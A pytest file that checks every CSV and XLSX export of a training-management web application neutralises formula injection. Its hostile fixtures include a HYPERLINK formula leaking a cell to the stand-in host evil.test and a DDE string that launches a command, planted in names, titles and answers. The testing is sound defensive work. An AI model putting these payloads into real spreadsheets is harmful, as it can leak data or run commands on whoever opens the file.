"""Every spreadsheet the application writes is inert: no cell, header or sheet title is a
formula (issue 16, point 8). Files are read back with openpyxl and the csv module."""

import ast
import csv
import io
import re
import zipfile
from datetime import date, timedelta
from pathlib import Path

import sqlalchemy as sa
from openpyxl import load_workbook

import wipo_training
from tests.conftest import make_course, make_person, make_session
from tests.evaluations.conftest import full_answers, open_questionnaire
from wipo_training.courses.models import CourseStatus
from wipo_training.demo.meetings import GROUP_NAME, load_demo_meetings
from wipo_training.evaluations import services as evaluation_services
from wipo_training.extensions import db
from wipo_training.meetings.models import WorkingGroup
from wipo_training.participants import services as participant_services
from wipo_training.spreadsheets import (
    CELL_MAX,
    SHEET_TITLE_MAX,
    sheet_title,
    to_csv,
    to_xlsx,
    to_xlsx_sheets,
)
from wipo_training.timetable import services as timetable_services
from wipo_training.timeutil import utcnow

#: How a formula can start, full-width forms included.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A2,"Click")'
HOSTILE = [
    HYPERLINK,
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
    "\x01=1+1 after a control character",
    "<script>alert(1)</script>",
    "x" * (CELL_MAX + 500),
]


def xlsx_cells(data: bytes):
    """(sheet title, cell) for every cell of the workbook, as openpyxl reads it back."""
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def assert_inert_xlsx(data: bytes) -> int:
    """No cell is a formula or an error value, in openpyxl's reading and in the sheets' XML
    itself; returns how many text cells start like a formula (kept, as text)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<f[ >]", xml) and 't="e"' not in xml, name
    looks_like_formula = 0
    for title, cell in xlsx_cells(data):
        assert cell.data_type not in ("f", "e"), (title, cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
            assert cell.data_type == "s"
            looks_like_formula += 1
    return looks_like_formula


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_inert_csv(data: bytes) -> int:
    """No value starts a formula; returns how many were neutralised (a quote added)."""
    neutralised = 0
    for row in csv_rows(data):
        for value in row:
            assert not value.startswith(FORMULA_START), value
            neutralised += value.startswith("'") and value[1:].startswith(FORMULA_START)
    return neutralised


def test_headers_cells_and_sheet_titles_all_pass_the_neutralisation():
    rows = [[text, 3, None, date(2013, 12, 2)] for text in HOSTILE]
    header = HOSTILE[:4]
    xlsx = to_xlsx_sheets(
        [
            (HYPERLINK, header, rows),
            (HYPERLINK, ["again"], []),
            ("'[Answers]: a/b\\c?*", ["x"], []),
            ("History", ["x"], []),
            ("", ["x"], []),
        ]
    )
    assert assert_inert_xlsx(xlsx) == 4 + 8  # the header's four, eight of the rows
    workbook = load_workbook(io.BytesIO(xlsx))
    assert [s.title for s in workbook.worksheets] == [
        'HYPERLINK("http evil.test leak=',
        'HYPERLINK("http evil.test l (2)',
        "Answers a b c",
        "History (sheet)",
        "Sheet",
    ]
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]][:4] == header  # the header kept as typed, as text
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert values[:8] == HOSTILE[:8]
    assert values[8] == "=1+1 after a control character"  # XLSX cannot hold \x01
    assert len(values[10]) == CELL_MAX and values[10].endswith("…")
    assert sheet["D2"].value.date() == date(2013, 12, 2) and sheet["B2"].value == 3

    data = to_csv(header, rows)
    assert data.startswith("\ufeff".encode())
    assert assert_inert_csv(data) == 4 + 8
    read = csv_rows(data)
    assert read[0] == ["'" + h if h.startswith(FORMULA_START) else h for h in header]
    assert [r[0] for r in read[1:9]] == ["'" + h for h in HOSTILE[:7]] + ["#N/A"]
    assert read[9][0] == "'=1+1 after a control character"  # stripped, then neutralised
    assert read[1][1:] == ["3", "", "2013-12-02"]


def test_sheet_titles_are_unique_and_short_whatever_the_text():
    taken: set[str] = set()
    names = [sheet_title("A" * 40, taken) for _ in range(12)]
    assert len(set(names)) == 12 and all(len(n) <= SHEET_TITLE_MAX for n in names)
    assert names[11] == "A" * 26 + " (12)"
    assert to_xlsx("=1+1", ["h"], [["v"]])  # the one-sheet form goes the same way


WRITERS = {"openpyxl", "csv", "xlsxwriter", "xlwt", "pandas", "odf", "pyexcel"}


def test_no_module_writes_a_spreadsheet_but_spreadsheets_py():
    """One writing function for every export: a module that imported a spreadsheet writer
    itself could write a user-text cell around the neutralisation."""
    package = Path(wipo_training.__file__).parent
    found = []
    for path in package.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Import):
                modules = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.level == 0:
                modules = [node.module or ""]
            else:
                continue
            if any(m.split(".")[0] in WRITERS for m in modules):
                found.append(str(path.relative_to(package)))
    assert sorted(set(found)) == ["spreadsheets.py"]


def hostile_course(app) -> dict:
    """A completed course whose people, organisation, session, evaluation question and
    comments carry formulas; a meeting whose co-chair's name is one."""
    with app.app_context():
        course = make_course(title="-2+3 Enforcement of IP Rights")
        enrolments = []
        for family, organisation in (
            (HYPERLINK, "National IP Office"),
            ("Tanaka", "@SUM(1+1)"),
            ("Benali", "+1+1 Customs"),
        ):
            person = make_person(family_name=family, organisation=organisation)
            enrolment = participant_services.nominate(None, course, person)
            participant_services.change_enrolment_status(None, enrolment, "accepted")
            participant_services.change_enrolment_status(None, enrolment, "confirmed")
            enrolments.append(enrolment)
        lecture = make_session(course, title="=1+1 Border Measures")
        visit = make_session(
            course,
            kind="site_visit",
            title="Visit to Tokyo Customs",
            host_organisation="Tokyo Customs",
            day=course.start_date + timedelta(days=1),
        )
        timetable_services.record_attendance(
            None, lecture, {e.id: ("present", "=1+1") for e in enrolments}
        )
        questionnaire = open_questionnaire(course)
        evaluation_services.add_question(
            None, questionnaire, "+cmd|' /C calc'!A0", "short_text", False, [], HYPERLINK
        )
        question = next(q for q in questionnaire.questions if q.section == HYPERLINK)
        for enrolment in enrolments:
            answers = full_answers(questionnaire)
            answers[question.id] = "@SUM(A1:A9)"
            evaluation_services.submit(questionnaire, enrolment, answers, utcnow())
        questionnaire.closes_at = utcnow() - timedelta(minutes=1)
        course.status = CourseStatus.COMPLETED
        load_demo_meetings()
        group = db.session.execute(
            sa.select(WorkingGroup).where(WorkingGroup.name == GROUP_NAME)
        ).scalar_one()
        meeting = group.meetings[0]
        meeting.chair_a_name = HYPERLINK
        db.session.commit()
        return {"course": course.id, "visit": visit.id, "meeting": meeting.id}


def test_every_export_of_the_application_reads_back_inert(app, login_as):
    ids = hostile_course(app)
    course = ids["course"]
    exports = {
        "participants.import_template": ["/participants/import-template.xlsx"],
        "participants.protocol_list_export": [
            f"/courses/{course}/participants/list.csv",
            f"/courses/{course}/participants/list.xlsx",
        ],
        "reports_api.participant_list": [
            f"/api/v1/courses/{course}/participants.csv",
            f"/api/v1/courses/{course}/participants.xlsx",
        ],
        "timetable.visitor_list": [f"/sessions/{ids['visit']}/visitors.xlsx"],
        "reports.attendance_summary_xlsx": [f"/courses/{course}/attendance.xlsx"],
        "reports.statistics_xlsx": ["/statistics.xlsx?year=2013&basis=calendar"],
        "evaluations.answers_export": [f"/courses/{course}/evaluation/answers.xlsx"],
        "meetings.participants_file": [f"/meetings/{ids['meeting']}/participants.xlsx"],
    }
    # A new CSV or XLSX route fails here until it is added above (and checked below).
    routes = {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if "xlsx" in rule.rule or "csv" in rule.rule
    }
    assert routes == set(exports)
    client = login_as("coordinator")
    for endpoint, urls in exports.items():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            if ".csv" in url:
                found = assert_inert_csv(response.data)
            else:
                found = assert_inert_xlsx(response.data)
            # Every file but the blank template carries hostile text, kept as inert text.
            assert found or endpoint == "participants.import_template", url
    answers = load_workbook(
        io.BytesIO(client.get(f"/courses/{course}/evaluation/answers.xlsx").data)
    ).active
    header = [c for c in answers[1] if c.value.startswith(HYPERLINK)]
    assert [(c.value, c.data_type) for c in header] == [(f"{HYPERLINK}: +cmd|' /C calc'!A0", "s")]
